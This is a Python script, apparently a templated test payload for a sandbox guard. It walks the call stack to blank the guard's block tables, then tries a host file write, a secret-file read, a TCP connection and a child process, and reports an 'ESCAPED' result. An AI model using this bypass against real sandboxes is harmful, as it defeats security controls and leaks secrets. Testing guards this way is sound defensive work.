"""hook: walk the frame stack up to the guard's module and rewrite its globals, then act.

sys._getframe().f_back reaches the frame that exec()'d the program, whose f_globals are the
hook's globals.
"""

import os
import re
import sys

CANARY_DIR = "__CANARY_DIR__"
SECRET_FILE = "__SECRET_FILE__"
TCP_PORT = int("__TCP_PORT__")


def forbidden():
    """The things a guard exists to stop; returns those that worked."""
    wins = []
    try:
        with open(os.path.join(CANARY_DIR, "hook-pwned.txt"), "w") as f:
            f.write("pwned")
        wins.append("wrote into a host directory")
    except Exception as exc:
        print(f"write: {type(exc).__name__}: {exc}")
    try:
        with open(SECRET_FILE, "rb") as f:
            data = f.read()
        wins.append(
            "read the trace database: "
            + " ".join(re.findall(r"[ -~]{12,}", data.decode("latin-1")))[-300:]
        )
    except Exception as exc:
        print(f"read: {type(exc).__name__}: {exc}")
    try:
        import socket

        with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=1) as s:
            s.sendall(b"hook bypass")
        wins.append("connected to a TCP listener")
    except Exception as exc:
        print(f"socket: {type(exc).__name__}: {exc}")
    try:
        import subprocess

        out = subprocess.run(
            [sys.executable, "-c", "print('child ran')"], capture_output=True, timeout=2
        ).stdout
        if b"child ran" in out:
            wins.append("started a process")
    except Exception as exc:
        print(f"subprocess: {type(exc).__name__}: {exc}")
    return wins


frame = sys._getframe()
depth = 0
while frame is not None:
    g = frame.f_globals
    if "_BLOCKED" in g:
        g["_BLOCKED"] = ()
        g["_ROOT"] = ""
        print(f"rewrote the guard tables {depth} frames up")
        break
    frame = frame.f_back
    depth += 1
else:
    print(f"walked {depth} frames, found no guard tables")
wins = forbidden()
if wins:
    print("ESCAPED: " + "; ".join(wins))
